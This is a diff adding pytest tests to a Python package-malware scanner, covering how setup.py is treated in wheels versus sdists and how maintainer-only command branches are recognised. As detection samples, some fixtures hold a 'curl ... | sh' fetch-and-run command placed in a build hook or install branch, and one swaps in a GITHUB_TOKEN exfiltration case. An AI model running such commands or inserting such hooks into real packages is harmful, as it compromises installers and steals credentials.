@@ -2171,3 +2171,95 @@ def test_python_2_is_no_proof_when_running_code_executes_text_it_may_have_edited
     [gap] = found(result, "analysis.parse-failed")
     assert gap.severity == "high" and "setup.py:2 executes text" in gap.message
     assert result.verdict in FLAGGED
+
+
+# -- a wheel runs no setup.py and no setuptools command ----------------------------------------
+
+
+def _text_wheel(files: dict[str, str]) -> Artifact:
+    members = []
+    for path, content in files.items():
+        data = textwrap.dedent(content).encode()
+        members.append(Member(path=path, size=len(data), data=data))
+    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=tuple(members))
+
+
+def test_a_setup_py_shipped_inside_a_wheel_is_a_module_not_install_time_code():
+    """A sub-package's own build script (``demo/ext/setup.py``) and its ``bdist_wheel`` class
+    land in site-packages as a module; installing the wheel runs neither."""
+    src = _PREBUILT.replace('"DEMO_LOCAL_VERSION"', '"GITHUB_TOKEN"')
+    result = analyze(_text_wheel({"demo/__init__.py": "", "demo/ext/setup.py": src}))
+    assert result.verdict != "malicious"
+    assert all(f.severity != "critical" for f in result.findings)
+    same_in_sdist = scan({"setup.py": "from setuptools import setup\n", "demo/ext/setup.py": src})
+    assert same_in_sdist.verdict == "malicious" or found(same_in_sdist, "intent.exfiltration")
+
+
+def test_a_top_level_setup_py_in_a_wheel_is_imported_as_setup():
+    """At the root of a wheel, setup.py installs as a module named ``setup``: import-time code
+    for whoever imports it, not install-time code."""
+    from pipvet.core.analysis.engine import role_of
+
+    assert role_of("setup.py", "wheel") != role_of("demo-1.0/setup.py", "sdist")
+    assert role_of("demo/setup.py", "wheel") == role_of("demo/other.py", "wheel")
+
+
+def test_a_build_command_in_an_sdist_module_that_setup_py_may_register_is_still_install_time():
+    build = """
+        import os
+        from setuptools.command.build_py import build_py
+
+        class Build(build_py):
+            def run(self):
+                os.system("curl -s http://198.51.100.7/x | sh")
+                super().run()
+    """
+    setup = "from setuptools import setup\nfrom demo._build import Build\n"
+    setup += "setup(name='demo', cmdclass={'build_py': Build})\n"
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/_build.py": build})
+    assert result.verdict == "malicious"
+
+
+# -- a maintainer command's variants, and only a branch that asks for one ---------------------
+
+
+@pytest.mark.parametrize("command", ["publish-test", "upload_docs", "release-notes"])
+def test_a_variant_of_a_maintainer_command_is_a_maintainer_branch(command):
+    src = f"""
+        import os, sys
+        from setuptools import setup
+        if sys.argv[-1] == "{command}":
+            os.system("python setup.py sdist bdist_wheel")
+            os.system("twine upload dist/*")
+            sys.exit()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict not in FLAGGED
+
+
+@pytest.mark.parametrize("test", ['sys.argv[-1] != "publish"', '"upload" not in sys.argv'])
+def test_a_branch_that_runs_on_every_other_command_runs_at_install(test):
+    src = f"""
+        import os, sys
+        from setuptools import setup
+        if {test}:
+            os.system("curl -s http://198.51.100.7/x | sh")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_an_install_command_word_is_never_a_maintainers():
+    from pipvet.core.analysis.facts.python_ast import maintainer_command
+    from pipvet.core.analysis.facts.setup_reach import INSTALL_COMMANDS
+
+    assert not [c for c in INSTALL_COMMANDS if maintainer_command(c)]
+    assert maintainer_command("publish-test") and not maintainer_command("testing_tools")
+
+
+def test_an_exec_statement_in_python_2_runs_no_other_file():
+    """multiprocessing 2.6's backport: its modules' exec statements are Python 2 too."""
+    other = "def make(template, d):\n    exec template in d\n"
+    result = scan({"setup.py": PY2_SETUP, "demo/__init__.py": PY2_MODULE, "demo/shared.py": other})
+    assert not found(result, "analysis.parse-failed")
+    assert result.verdict not in FLAGGED
